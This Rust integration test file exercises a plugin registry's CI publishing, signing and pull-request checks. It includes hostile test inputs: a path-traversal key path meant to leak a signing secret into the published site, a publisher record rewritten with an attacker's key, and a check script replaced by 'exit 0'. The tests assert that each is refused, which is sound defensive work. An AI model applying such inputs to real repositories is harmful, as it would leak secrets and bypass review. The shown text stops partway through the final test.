//! The registry template's pipeline scripts (`registry-template/scripts/`) end to end,
//! as GitHub Actions runs them: a bare git repository plays GitHub, each job starts
//! from a fresh directory checked out exactly as `actions/checkout@v4` does (only the
//! triggering commit, depth 1: `git fetch --depth=1 origin +SHA:refs/remotes/origin/main`),
//! with the workflow's environment (GITHUB_SHA, GITHUB_EVENT_NAME, GITHUB_EVENT_BEFORE,
//! RUNNER_TEMP, GITHUB_STEP_SUMMARY, the key secrets) and this workspace's
//! `trellis-index`. What the scripts push to `gh-pages` is read back from the bare
//! repository.
//!
//! Each test is one operator's story: the first publish (bootstrap on the operator's
//! machine), later publishes, a push of several commits, the timestamp job, the
//! pull-request check against the base branch's records, a build three months on, and
//! the attacks on each (a record that adds its own key, a poisoned builder cache, a
//! configuration that would write a secret into the site).

#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const T0: &str = "2026-12-01T00:00:00Z";
const BOT: [(&str, &str); 4] = [
    ("GIT_AUTHOR_NAME", "operator"),
    ("GIT_AUTHOR_EMAIL", "operator@example.org"),
    ("GIT_COMMITTER_NAME", "operator"),
    ("GIT_COMMITTER_EMAIL", "operator@example.org"),
];

fn bin() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_trellis-index"))
}

fn template() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../registry-template")
}

fn text(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// A command with a clean git environment (no user or system configuration).
fn command(program: impl AsRef<std::ffi::OsStr>, dir: &Path) -> Command {
    let mut cmd = Command::new(program);
    cmd.current_dir(dir).env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1").envs(BOT);
    cmd
}

fn run(mut cmd: Command) -> String {
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{cmd:?} failed: {}", text(&out));
    text(&out)
}

fn git(dir: &Path, args: &[&str]) -> String {
    let mut cmd = command("git", dir);
    cmd.args(args);
    run(cmd)
}

fn index(dir: &Path, args: &[&str]) -> String {
    let mut cmd = command(bin(), dir);
    cmd.args(args);
    run(cmd)
}

fn days_after_t0(days: i64) -> String {
    let t0: jiff::Timestamp = T0.parse().unwrap();
    jiff::Timestamp::from_second(t0.as_second() + days * 86_400).unwrap().strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// A store: "GitHub" (a bare repository), the operator's clone with every key, and a
/// publisher (`acme`) with its key.
struct Store {
    tmp: tempfile::TempDir,
    origin: PathBuf,
    operator: PathBuf,
    now: String,
}

impl Store {
    /// `trellis-index init`, the template's scripts and workflows, acme's record and
    /// `acme.time-core 1.0.0`, pushed to main. No site yet.
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let origin = tmp.path().join("origin.git");
        git(tmp.path(), &["init", "--quiet", "--bare", "-b", "main", origin.to_str().unwrap()]);
        // GitHub serves any reachable commit by id (actions/checkout fetches by SHA).
        git(&origin, &["config", "uploadpack.allowReachableSHA1InWant", "true"]);
        let operator = tmp.path().join("operator");
        // Few bins: every build then writes a few dozen files, not five hundred.
        index(
            tmp.path(),
            &["init", "operator", "--name", "Test Store", "--bin-bits", "2", "--publisher-bin-bits", "1", "--now", T0],
        );
        for dir in ["scripts", ".github"] {
            run({
                let mut cp = command("cp", tmp.path());
                cp.arg("-r").arg(template().join(dir)).arg(&operator);
                cp
            });
        }
        let store = Self { tmp, origin, operator, now: T0.to_owned() };
        index(store.tmp.path(), &["keygen", "--out", "acme.key"]);
        index(
            &store.operator,
            &[
                "publisher",
                "init",
                "--id",
                "acme",
                "--name",
                "Acme Tools",
                "--key",
                store.key("acme").to_str().unwrap(),
            ],
        );
        store.add_release("acme.time-core-1.0.0", "acme");
        git(&store.operator, &["init", "--quiet", "-b", "main"]);
        git(&store.operator, &["remote", "add", "origin", store.origin.to_str().unwrap()]);
        store.commit("a new store");
        git(&store.operator, &["push", "--quiet", "origin", "main"]);
        store
    }

    fn key(&self, vendor: &str) -> PathBuf {
        self.tmp.path().join(format!("{vendor}.key"))
    }

    /// Packs and signs the template plugin `name` into the operator's releases/.
    fn add_release(&self, name: &str, vendor: &str) {
        self.add_tree(&template().join("plugins").join(name), vendor);
    }

    fn add_tree(&self, tree: &Path, vendor: &str) {
        let meta: serde_json::Value =
            serde_json::from_slice(&std::fs::read(tree.join("plugin.json")).unwrap()).unwrap();
        let (id, version) = (meta["id"].as_str().unwrap(), meta["version"].as_str().unwrap());
        let dir = self.operator.join("releases").join(id);
        std::fs::create_dir_all(&dir).unwrap();
        let package = dir.join(format!("{version}.zip"));
        index(&self.operator, &["pack", tree.to_str().unwrap(), "--out", package.to_str().unwrap()]);
        index(&self.operator, &["sign", package.to_str().unwrap(), "--key", self.key(vendor).to_str().unwrap()]);
    }

    /// A copy of template plugin `name` at `version`, with `edit` applied to plugin.json.
    fn variant(&self, name: &str, version: &str, edit: impl FnOnce(&mut serde_json::Value)) -> PathBuf {
        let tree = self.tmp.path().join(format!("{name}-as-{version}"));
        run({
            let mut cp = command("cp", self.tmp.path());
            cp.arg("-r").arg(template().join("plugins").join(name)).arg(&tree);
            cp
        });
        let path = tree.join("plugin.json");
        let mut meta: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        meta["version"] = version.into();
        edit(&mut meta);
        std::fs::write(&path, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
        tree
    }

    fn commit(&self, message: &str) -> String {
        git(&self.operator, &["add", "-A"]);
        git(&self.operator, &["commit", "--quiet", "-m", message]);
        self.head()
    }

    fn head(&self) -> String {
        git(&self.operator, &["rev-parse", "HEAD"]).trim().to_owned()
    }

    fn push(&self) {
        git(&self.operator, &["push", "--quiet", "origin", "main"]);
    }

    /// The operator's machine: scripts/publish-offline.sh with every key.
    fn publish_offline(&self) -> Output {
        self.publish_offline_with(&[])
    }

    fn publish_offline_with(&self, env: &[(&str, &str)]) -> Output {
        let mut cmd = command(self.operator.join("scripts/publish-offline.sh"), &self.operator);
        cmd.env("TRELLIS_INDEX", bin()).env("TRELLIS_NOW", &self.now).envs(env.iter().copied());
        cmd.output().unwrap()
    }

    /// A fresh runner directory checked out as actions/checkout@v4 does for `sha`
    /// (`sparse`: only these paths, as `sparse-checkout:` does).
    fn runner(&self, name: &str, sha: &str, sparse: Option<&[&str]>) -> Runner {
        static RUNS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let run = RUNS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir = self.tmp.path().join(format!("runner-{run}-{name}-{}", &sha[..8]));
        let work = dir.join("work");
        let temp = dir.join("temp");
        std::fs::create_dir_all(&work).unwrap();
        std::fs::create_dir_all(&temp).unwrap();
        git(&work, &["init", "--quiet"]);
        git(&work, &["remote", "add", "origin", self.origin.to_str().unwrap()]);
        if let Some(paths) = sparse {
            // actions/checkout with `sparse-checkout-cone-mode: false`.
            let mut args = vec!["sparse-checkout", "set", "--no-cone"];
            args.extend_from_slice(paths);
            git(&work, &args);
        }
        git(
            &work,
            &[
                "-c",
                "protocol.version=2",
                "fetch",
                "--quiet",
                "--no-tags",
                "--prune",
                "--no-recurse-submodules",
                "--depth=1",
                "origin",
                &format!("+{sha}:refs/remotes/origin/main"),
            ],
        );
        git(&work, &["checkout", "--quiet", "--force", "-B", "main", "refs/remotes/origin/main"]);
        Runner { work, temp, sha: sha.to_owned(), now: self.now.clone() }
    }

    /// The online keys as the repository secrets hold them.
    fn secrets(&self) -> Vec<(String, String)> {
        ["snapshot", "timestamp", "bins", "publishers", "security"]
            .iter()
            .map(|role| {
                let key = std::fs::read_to_string(self.operator.join(format!("keys/{role}.key"))).unwrap();
                (format!("TRELLIS_{}_KEY", role.to_uppercase()), key)
            })
            .collect()
    }

    /// The publish workflow for a push of `sha` (before: the branch's previous commit):
    /// the build job, the sign job with the `unsigned` artifact, the publish job with
    /// the `signed`, `blobs` and `pages` (pages.tar, removed.txt) artifacts, each in a fresh runner. Returns the output of
    /// the job that failed or of the last one (with every job's output in it) and the
    /// summaries.
    fn publish(&self, event: &str, before: &str, sha: &str) -> (Output, String) {
        let build = self.runner("build", sha, None);
        let out = build.script(
            "prepare.sh",
            &[build.temp.to_str().unwrap()],
            &[("GITHUB_EVENT_NAME", event), ("GITHUB_EVENT_BEFORE", before)],
        );
        let mut log = text(&out);
        let summary =
            |jobs: &[&Runner], log: &str| format!("{}{log}", jobs.iter().map(|j| j.summary()).collect::<String>());
        if !out.status.success() {
            return (with_log(out, &log), summary(&[&build], &log));
        }
        let sign = self.sign_job(sha);
        let out = self.sign_with(&sign, &build.temp.join("unsigned.tar"));
        log.push_str(&text(&out));
        if !out.status.success() {
            return (with_log(out, &log), summary(&[&build, &sign], &log));
        }
        let publish = self.runner("publish", sha, Some(&["scripts/", "root/"]));
        let signed = sign.temp.join("signed.tar");
        let blobs = build.temp.join("blobs.tar");
        let pages = build.temp.join("pages.tar");
        let removed = build.temp.join("removed.txt");
        let out = publish.script(
            "publish.sh",
            &[signed.to_str().unwrap(), blobs.to_str().unwrap(), pages.to_str().unwrap(), removed.to_str().unwrap()],
            &[],
        );
        log.push_str(&text(&out));
        (with_log(out, &log), summary(&[&build, &sign, &publish], &log))
    }

    /// A runner checked out as the sign job is: everything but releases/ and plugins/.
    fn sign_job(&self, sha: &str) -> Runner {
        let sign = self.runner("sign", sha, Some(&["/*", "!/releases/", "!/plugins/"]));
        assert!(sign.work.join("trellis-registry.json").exists());
        assert!(!sign.work.join("releases").exists(), "the sign job never checks out packages");
        sign
    }

    /// The sign job over `unsigned`, with the online keys as secrets.
    fn sign_with(&self, sign: &Runner, unsigned: &Path) -> Output {
        let secrets = self.secrets();
        let env: Vec<(&str, &str)> = secrets.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        sign.script("sign.sh", &[unsigned.to_str().unwrap(), sign.temp.to_str().unwrap()], &env)
    }

    fn publish_ok(&self, event: &str, before: &str, sha: &str) -> String {
        let (out, summary) = self.publish(event, before, sha);
        assert!(out.status.success(), "sign job failed: {}\n{summary}", text(&out));
        summary
    }

    /// Releases (`id version`) whose packages the published site holds.
    fn published(&self) -> BTreeSet<String> {
        let files = git(&self.origin, &["ls-tree", "-r", "--name-only", "gh-pages", "targets/plugins"]);
        files
            .lines()
            .filter_map(|path| {
                let name = path.rsplit('/').next()?.strip_suffix(".zip")?;
                let (_, release) = name.split_once('.')?;
                let (id, version) = release.rsplit_once('-')?;
                Some(format!("{id} {version}"))
            })
            .collect()
    }

    /// The published site, checked out into a directory.
    fn site(&self, name: &str) -> PathBuf {
        let dir = self.tmp.path().join(format!("site-{name}"));
        git(
            self.tmp.path(),
            &["clone", "--quiet", "--branch", "gh-pages", self.origin.to_str().unwrap(), dir.to_str().unwrap()],
        );
        dir
    }

    fn site_commits(&self) -> usize {
        git(&self.origin, &["rev-list", "--count", "gh-pages"]).trim().parse().unwrap()
    }

    fn timestamp_version(&self) -> u64 {
        let bytes = git(&self.origin, &["show", "gh-pages:metadata/timestamp.json"]);
        let doc: serde_json::Value = serde_json::from_str(&bytes).unwrap();
        doc["signed"]["version"].as_u64().unwrap()
    }

    fn bootstrap(&self) {
        let out = self.publish_offline();
        assert!(out.status.success(), "bootstrap failed: {}", text(&out));
    }
}

/// `out` with `log` (every job's output so far) as its stderr.
fn with_log(out: Output, log: &str) -> Output {
    Output { status: out.status, stdout: Vec::new(), stderr: log.as_bytes().to_vec() }
}

struct Runner {
    work: PathBuf,
    temp: PathBuf,
    sha: String,
    now: String,
}

impl Runner {
    fn script(&self, name: &str, args: &[&str], env: &[(&str, &str)]) -> Output {
        let mut cmd = command(self.work.join("scripts").join(name), &self.work);
        cmd.args(args)
            .env("TRELLIS_INDEX", bin())
            .env("TRELLIS_NOW", &self.now)
            .env("GITHUB_SHA", &self.sha)
            .env("RUNNER_TEMP", &self.temp)
            .env("GITHUB_STEP_SUMMARY", self.temp.join("summary.md"))
            .envs(env.iter().copied());
        cmd.output().unwrap()
    }

    fn summary(&self) -> String {
        std::fs::read_to_string(self.temp.join("summary.md")).unwrap_or_default()
    }
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn first_publish_is_bootstrapped_offline_then_ci_publishes_every_commit_of_a_push() {
    let store = Store::new();
    let first = store.head();

    // CI on a store without a site: a clear refusal naming the bootstrap, not
    // "targets metadata must be re-signed".
    let (out, summary) = store.publish("push", "0000000000000000000000000000000000000000", &first);
    assert!(!out.status.success());
    assert!(text(&out).contains("no 'gh-pages' branch") && text(&out).contains("publish-offline.sh"), "{}", text(&out));
    assert!(summary.contains("publish-offline.sh"), "{summary}");
    assert!(summary.contains("scope: full (no previous commit for this push"), "{summary}");

    // The bootstrap, on the operator's machine with the targets key: refused from a
    // clone that is not at origin/main, then done (here with a tiny size limit, to see
    // the hosting warning).
    std::fs::write(store.operator.join("notes.txt"), "unpushed").unwrap();
    let out = store.publish_offline();
    assert!(!out.status.success() && text(&out).contains("uncommitted changes"), "{}", text(&out));
    std::fs::remove_file(store.operator.join("notes.txt")).unwrap();
    let out = store.publish_offline_with(&[("TRELLIS_SITE_LIMIT_BYTES", "1000")]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("over 80% of the 1000-byte limit of GitHub Pages"), "{}", text(&out));
    assert_eq!(store.published(), set(&["acme.time-core 1.0.0"]));
    let site = store.site("first");
    assert!(site.join(".nojekyll").exists());
    let verified = index(site.parent().unwrap(), &["verify", site.to_str().unwrap(), "--now", T0]);
    assert!(verified.contains("no problems"), "{verified}");

    // Second publish from CI: only the changed plugin is in scope.
    store.add_release("acme.clock-1.0.0", "acme");
    let second = store.commit("acme.clock 1.0.0");
    store.push();
    let summary = store.publish_ok("push", &first, &second);
    assert!(summary.contains("scope: acme.clock"), "{summary}");
    assert_eq!(store.published(), set(&["acme.time-core 1.0.0", "acme.clock 1.0.0"]));
    // The storefront travels beside the signed files (unsigned pages.tar): the new
    // plugin's page is on the site branch.
    let files = git(&store.origin, &["ls-tree", "-r", "--name-only", "gh-pages"]);
    assert!(files.lines().any(|f| f == "plugins/acme.clock/index.html"), "{files}");
    // So does the builder's list of published plugins, bound to the snapshot the signer
    // published: the next `--only` build takes it instead of listing releases/.
    let show = |path: &str| -> serde_json::Value {
        serde_json::from_str(&git(&store.origin, &["show", &format!("gh-pages:{path}")])).unwrap()
    };
    let ids = git(&store.origin, &["show", "gh-pages:_catalog/plugins.txt"]);
    let header = show("_catalog/plugins-state.json");
    assert_eq!(ids.lines().collect::<Vec<_>>(), ["acme.clock", "acme.time-core"]);
    assert_eq!(header["snapshot"], show("metadata/timestamp.json")["signed"]["meta"]["snapshot.json"]["version"]);

    // A push of two commits, each adding a release: both are published (a diff from
    // HEAD~1 would publish only the last one).
    store.add_release("acme.clock-1.1.0", "acme");
    store.commit("acme.clock 1.1.0");
    let core = store.variant("acme.time-core-1.0.0", "1.1.0", |_| {});
    store.add_tree(&core, "acme");
    let third = store.commit("acme.time-core 1.1.0");
    store.push();
    let summary = store.publish_ok("push", &second, &third);
    assert!(summary.contains("acme.clock") && summary.contains("acme.time-core"), "{summary}");
    assert_eq!(
        store.published(),
        set(&["acme.time-core 1.0.0", "acme.time-core 1.1.0", "acme.clock 1.0.0", "acme.clock 1.1.0"])
    );
    let site = store.site("third");
    let verified = index(site.parent().unwrap(), &["verify", site.to_str().unwrap(), "--now", T0]);
    assert!(verified.contains("no problems"), "{verified}");

    // A push whose publish run failed (or was cancelled) is caught up by the next
    // one: the scope starts at the commit the site was built from, not at `before`.
    let core = store.variant("acme.time-core-1.0.0", "1.2.0", |_| {});
    store.add_tree(&core, "acme");
    let missed = store.commit("acme.time-core 1.2.0");
    store.push();
    std::fs::write(store.operator.join("README.md"), "# our store\n").unwrap();
    let docs = store.commit("docs");
    store.push();
    let summary = store.publish_ok("push", &missed, &docs);
    assert!(summary.contains("scope: acme.time-core"), "{summary}");
    assert!(store.published().contains("acme.time-core 1.2.0"), "{:?}", store.published());

    // A push that changes only documentation publishes nothing.
    let commits = store.site_commits();
    std::fs::write(store.operator.join("README.md"), "# our store, documented\n").unwrap();
    let fourth = store.commit("more docs");
    store.push();
    let summary = store.publish_ok("push", &docs, &fourth);
    assert!(summary.contains("nothing to publish"), "{summary}");
    assert_eq!(store.site_commits(), commits);

    // A push whose `before` is unknown (a forced push): the scope still starts at the
    // commit the site was built from.
    let summary = store.publish_ok("push", "1111111111111111111111111111111111111111", &fourth);
    assert!(summary.contains(&format!("the site was built from {docs}")), "{summary}");
    assert!(summary.contains("nothing to publish"), "{summary}");
}

#[test]
fn timestamp_job_runs_again_and_again_with_only_the_timestamp_key() {
    let mut store = Store::new();
    store.bootstrap();
    let sha = store.head();
    let before = store.timestamp_version();
    let key = std::fs::read_to_string(store.operator.join("keys/timestamp.key")).unwrap();
    for run in 1..=2 {
        store.now = days_after_t0(run);
        let runner = store.runner(&format!("timestamp{run}"), &sha, None);
        let out = runner.script("timestamp.sh", &[], &[("TRELLIS_TIMESTAMP_KEY", &key)]);
        assert!(out.status.success(), "timestamp run {run}: {}", text(&out));
        assert_eq!(store.timestamp_version(), before + run as u64);
        assert!(!runner.work.join("keys").exists(), "the key is deleted after signing");
        assert!(runner.summary().contains("signed timestamp.json"), "{}", runner.summary());
        let message = git(&store.origin, &["log", "-1", "--format=%B", "gh-pages"]);
        assert!(message.contains(&format!("Trellis-Source: {sha}")), "the source commit is carried over: {message}");
    }
    let site = store.site("timestamps");
    let verified = index(site.parent().unwrap(), &["verify", site.to_str().unwrap(), "--now", &days_after_t0(2)]);
    assert!(verified.contains("no problems"), "{verified}");

    // Without the secret: a clear refusal, nothing pushed.
    let runner = store.runner("timestamp-nokey", &sha, None);
    let out = runner.script("timestamp.sh", &[], &[]);
    assert!(!out.status.success() && text(&out).contains("TRELLIS_TIMESTAMP_KEY"), "{}", text(&out));
    assert_eq!(store.timestamp_version(), before + 2);
}

#[test]
fn a_build_three_months_on_keeps_the_offline_targets_and_the_watchdog_warns_before_it_expires() {
    let mut store = Store::new();
    store.bootstrap();
    let sha = store.head();
    let targets_of = |store: &Store| {
        let doc: serde_json::Value =
            serde_json::from_str(&git(&store.origin, &["show", "gh-pages:metadata/1.targets.json"])).unwrap();
        doc["signed"]["expires"].as_str().unwrap().to_owned()
    };
    let expires = targets_of(&store);

    // +95 days: past half of targets' 180 days; the weekly full build still works.
    store.now = days_after_t0(95);
    let summary = store.publish_ok("schedule", "", &sha);
    assert!(summary.contains("scope: full"), "{summary}");
    let site = store.site("95");
    assert!(!site.join("metadata/2.targets.json").exists(), "targets is kept as published");
    assert_eq!(targets_of(&store), expires);
    let verified = index(site.parent().unwrap(), &["verify", site.to_str().unwrap(), "--now", &store.now]);
    assert!(verified.contains("no problems"), "{verified}");

    // +160 days: the watchdog fails and writes the issue: re-sign targets offline.
    store.now = days_after_t0(160);
    let runner = store.runner("watchdog", &sha, None);
    let issue = runner.temp.join("issue.md");
    let out =
        runner.script("watchdog.sh", &[site.to_str().unwrap()], &[("TRELLIS_ISSUE_FILE", issue.to_str().unwrap())]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let body = std::fs::read_to_string(&issue).unwrap();
    assert!(
        body.contains("**targets** v1: re-sign by 2027-05-30T00:00:00Z") && body.contains("publish-offline.sh"),
        "{body}"
    );
    assert!(runner.summary().contains("targets"), "the watchdog writes the job summary");
    let status = Command::new(bin()).args(["status", site.to_str().unwrap(), "--now", &store.now]).output().unwrap();
    assert_eq!(status.status.code(), Some(1), "{}", text(&status));
    assert!(text(&status).contains("warning: targets v1 expires 2027-05-30T00:00:00Z"), "{}", text(&status));

    // The timestamp job warns in its log every 6 hours, and so does a CI build (the
    // weekly one keeps the site fresh meanwhile).
    let key = std::fs::read_to_string(store.operator.join("keys/timestamp.key")).unwrap();
    let out = store.runner("timestamp-160", &sha, None).script("timestamp.sh", &[], &[("TRELLIS_TIMESTAMP_KEY", &key)]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("warning: targets v1 expires 2027-05-30T00:00:00Z"), "{}", text(&out));
    let (out, _) = store.publish("schedule", "", &sha);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("warning: targets v1 expires"), "{}", text(&out));

    // +181 days: targets expired. CI refuses with what to do; the offline build fixes it.
    store.now = days_after_t0(181);
    let commits = store.site_commits();
    let (out, summary) = store.publish("schedule", "", &sha);
    assert!(!out.status.success());
    assert!(
        text(&out).contains("run scripts/publish-offline.sh on the machine holding the targets key"),
        "{}",
        text(&out)
    );
    assert!(summary.contains("publish-offline.sh"), "{summary}");
    assert_eq!(store.site_commits(), commits, "nothing pushed");
    git(&store.operator, &["fetch", "--quiet", "origin"]);
    let out = store.publish_offline();
    assert!(out.status.success(), "{}", text(&out));
    let site = store.site("181");
    assert!(site.join("metadata/2.targets.json").exists(), "targets re-signed offline");
    let status = Command::new(bin()).args(["status", site.to_str().unwrap(), "--now", &store.now]).output().unwrap();
    assert!(status.status.success(), "{}", text(&status));
}

#[test]
fn publish_refuses_to_write_a_secret_outside_keys_and_never_publishes_a_key() {
    let store = Store::new();
    store.bootstrap();
    let first = store.head();
    let commits = store.site_commits();
    // A configuration (from a merged pull request, say) that would write the snapshot
    // secret into the site.
    let config_path = store.operator.join("trellis-registry.json");
    let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
    config["keys"]["snapshot"]["keys"] = serde_json::json!(["../site/metadata/leak.key"]);
    std::fs::write(&config_path, serde_json::to_vec_pretty(&config).unwrap()).unwrap();
    // With something to sign (a config change alone changes no role: nothing is signed).
    store.add_release("acme.clock-1.0.0", "acme");
    let second = store.commit("hostile config");
    store.push();
    let (out, _) = store.publish("push", &first, &second);
    assert!(!out.status.success());
    assert!(text(&out).contains("keys.snapshot names '../site/metadata/leak.key'"), "{}", text(&out));
    assert_eq!(store.site_commits(), commits);
    let files = git(&store.origin, &["ls-tree", "-r", "--name-only", "gh-pages"]);
    assert!(!files.contains(".key"), "{files}");

    // Keys committed by mistake: the build job stops and says to rotate them.
    std::fs::write(store.operator.join(".gitignore"), "").unwrap();
    let third = store.commit("oops");
    store.push();
    let build = store.runner("build-keys", &third, None);
    let out = build.script("prepare.sh", &[build.temp.to_str().unwrap()], &[("GITHUB_EVENT_BEFORE", &second)]);
    assert!(!out.status.success() && text(&out).contains("keys/ is committed"), "{}", text(&out));
}

/// A pull request: `change` edits the operator's clone on a branch off main; GitHub
/// keeps its merge commit as refs/pull/N/merge.
fn pull_request(store: &Store, number: u32, change: impl FnOnce(&Store)) {
    let main = store.head();
    git(&store.operator, &["checkout", "--quiet", "-b", &format!("pr{number}")]);
    change(store);
    store.commit(&format!("pull request {number}"));
    git(&store.operator, &["checkout", "--quiet", "main"]);
    git(&store.operator, &["checkout", "--quiet", "-b", &format!("merge{number}")]);
    git(&store.operator, &["merge", "--quiet", "--no-ff", "-m", "merge", &format!("pr{number}")]);
    let merge = store.head();
    git(&store.operator, &["push", "--quiet", "origin", &format!("HEAD:refs/pull/{number}/merge")]);
    git(&store.operator, &["checkout", "--quiet", "main"]);
    assert_eq!(store.head(), main);
    assert_ne!(merge, main);
}

/// The check workflow (`pull_request_target`): a checkout of the base branch runs the
/// base's script, which only reads the pull request's merge commit.
fn check(store: &Store, number: u32, labels: &str) -> (Output, String) {
    let runner = store.runner(&format!("check-{labels}"), &store.head(), None);
    let comment = runner.temp.join("comment.md");
    let number = number.to_string();
    let out = runner.script(
        "check-pr.sh",
        &[],
        &[("PR_NUMBER", &number), ("PR_LABELS", labels), ("TRELLIS_COMMENT_FILE", comment.to_str().unwrap())],
    );
    let body = std::fs::read_to_string(&comment).unwrap_or_default();
    assert_eq!(runner.summary().trim(), body.trim(), "the job summary is the comment");
    (out, body)
}

#[test]
fn pr_check_lints_against_the_base_branch_records_and_enforces_review() {
    let store = Store::new();
    store.bootstrap();

    // A pull request that only rewrites acme's record with an attacker's key.
    index(store.tmp.path(), &["keygen", "--out", "attacker.key"]);
    pull_request(&store, 1, |store| {
        std::fs::remove_file(store.operator.join("publishers/acme.json")).unwrap();
        index(
            &store.operator,
            &["publisher", "init", "--id", "acme", "--name", "Acme", "--key", store.key("attacker").to_str().unwrap()],
        );
    });
    let (out, body) = check(&store, 1, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        body.contains("publishers/acme.json: refused") && body.contains("does not keep the 1 version(s)"),
        "{body}"
    );

    // ... and one that also ships a release signed by that key.
    pull_request(&store, 2, |store| {
        std::fs::remove_file(store.operator.join("publishers/acme.json")).unwrap();
        index(
            &store.operator,
            &["publisher", "init", "--id", "acme", "--name", "Acme", "--key", store.key("attacker").to_str().unwrap()],
        );
        store.add_release("acme.clock-1.0.0", "attacker");
    });
    let (out, body) = check(&store, 2, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(body.contains("releases/acme.clock/1.0.0.zip") && body.contains("| acme.clock 1.0.0 | refused"), "{body}");

    // A first-time publisher needs the review label; a high-risk permission is named.
    index(store.tmp.path(), &["keygen", "--out", "contoso.key"]);
    pull_request(&store, 3, |store| {
        index(
            &store.operator,
            &[
                "publisher",
                "init",
                "--id",
                "contoso",
                "--name",
                "Contoso",
                "--key",
                store.key("contoso").to_str().unwrap(),
            ],
        );
        store.add_release("contoso.imagetools-2.1.0", "contoso");
    });
    let (out, body) = check(&store, 3, "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(body.contains("first submission of publisher **contoso**"), "{body}");
    assert!(body.contains("label `trellis-reviewed` missing"), "{body}");
    assert!(body.contains("| contoso.imagetools 2.1.0 | 0 error(s)") && body.contains("verified (contoso)"), "{body}");
    let (out, body) = check(&store, 3, "bug,trellis-reviewed");
    assert!(out.status.success(), "{}", text(&out));
    assert!(body.contains("**Passed.**"), "{body}");

    // A new release whose permissions grow, and with a high-risk one.
    pull_request(&store, 4, |store| {
        let tree = store.variant("acme.time-core-1.0.0", "1.1.0", |meta| {
            meta["permissions"] = serde_json::json!([
                {"type": "network", "scope": "listen", "reason": "serve the time to other machines"}
            ]);
        });
        store.add_tree(&tree, "acme");
    });
    let (out, body) = check(&store, 4, "");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(body.contains("acme.time-core 1.1.0 asks for the high-risk permission `network:listen`"), "{body}");
    assert!(body.contains("acme.time-core 1.1.0 asks for permissions 1.0.0 did not: `network:listen`"), "{body}");
    let (out, _) = check(&store, 4, "trellis-reviewed");
    assert!(out.status.success(), "{}", text(&out));

    // Replacing a published package is refused, label or not.
    pull_request(&store, 5, |store| {
        let tree = store.variant("acme.time-core-1.0.0", "1.0.0", |meta| {
            meta["release_notes"] = "changed after publishing".into();
        });
        std::fs::remove_file(store.operator.join("releases/acme.time-core/1.0.0.zip.dsse")).unwrap();
        store.add_tree(&tree, "acme");
    });
    let (out, body) = check(&store, 5, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(body.contains("releases/acme.time-core/1.0.0.zip: a published package never changes"), "{body}");

    // A remote package cannot be linted here: it needs the review label.
    pull_request(&store, 7, |store| {
        let dir = store.operator.join("releases/acme.clock");
        std::fs::create_dir_all(&dir).unwrap();
        let remote = serde_json::json!({"url": "https://downloads.example/acme.clock-1.0.0.zip", "sha256": "00".repeat(32), "size": 1});
        std::fs::write(dir.join("1.0.0.remote.json"), remote.to_string()).unwrap();
        std::fs::write(dir.join("1.0.0.zip.dsse"), b"{}").unwrap();
    });
    let (out, body) = check(&store, 7, "");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(body.contains("acme.clock 1.0.0 is a remote package"), "{body}");

    // A pull request that rewrites the check itself is judged by the base's check.
    pull_request(&store, 8, |store| {
        std::fs::write(store.operator.join("scripts/check-pr.sh"), "#!/bin/sh\nexit 0\n").unwrap();
        store.add_release("acme.clock-1.0.0", "attacker");
    });
    let (out, body) = check(&store, 8, "");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(body.contains("operator file `scripts/check-pr.sh` changed"), "{body}");
    assert!(body.contains("does not verify under publishers/acme.json"), "{body}");

    // A plain new release by the publisher's own key passes without review.
    pull_request(&store, 6, |store| store.add_release("acme.clock-1.0.0", "acme"));
    let (out, body) = check(&store, 6, "");
    assert!(out.status.success(), "{}\n{body}", text(&out));
    assert!(body.contains("| acme.clock 1.0.0 | 0 error(s)") && !body.contains("Manual review"), "{body}");
}

/// Writes `reviews/<plugin>/<author>.json` into the operator's clone.
fn write_review(store: &Store, plugin: &str, author: &str, stars: u32, version: &str) {
    let dir = store.operator.join("reviews").join(plugin);
    std::fs::create_dir_all(&dir).unwrap();
    let review = serde_json::json!({
        "stars": stars, "text": "Keeps *perfect* time.", "version": version, "date": "2026-11-20",
        "author": author, "state": "visible"
    });
    std::fs::write(dir.join(format!("{author}.json")), review.to_string()).unwrap();
}

#[test]
fn pr_check_runs_the_review_check_on_review_pull_requests() {
    let store = Store::new();

    // A good review (what the review issue form's workflow opens): checked, its
    // plugin's rating in the summary, and moderated (the label).
    pull_request(&store, 1, |store| write_review(store, "acme.time-core", "octocat", 4, "1.0.0"));
    let (out, body) = check(&store, 1, "");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(body.contains("### Reviews") && body.contains("1 review(s) checked"), "{body}");
